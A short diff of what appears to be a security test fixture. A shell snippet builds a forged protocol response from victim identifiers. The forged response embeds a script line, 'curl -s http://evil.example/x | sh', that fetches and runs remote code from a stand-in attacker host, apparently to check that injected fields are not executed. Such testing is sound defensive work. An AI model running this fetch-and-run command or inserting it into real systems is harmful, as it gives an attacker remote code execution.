@@ -36,7 +36,7 @@ V=$(cat /home/agent/victim.id); N=$(cat /home/agent/victim.name); S=$(cat /home/
 evil='#!/bin/sh%0acurl -s http://evil.example/x | sh # EVIL-FORGED%0a'
 printf '#cfh 1 item 1 end 0\n#cfh 1 item 2 scan\n'
 printf 'c id=%s name=%s image=x iid=x st=running rc=0 at=x u=1000 cmd= lb=\n' "$V" "$N"
-printf '#cfp 1 d\nem=%s\nems=%s\nemx=%s\ncf=@0123456789abcdef:30\n#cfp 1 end 4\n' "$S" "$S" "$evil"
+printf '#cfp 1 d\nem=%s\nems=%s\nemx=%s\ncf=@0123456789ab:30\n#cfp 1 end 4\n' "$S" "$S" "$evil"
 printf '#cfh 1 item 2 end 0\n#cfh 1 end 2\n#cfz 1 end\n'
 "#;
 
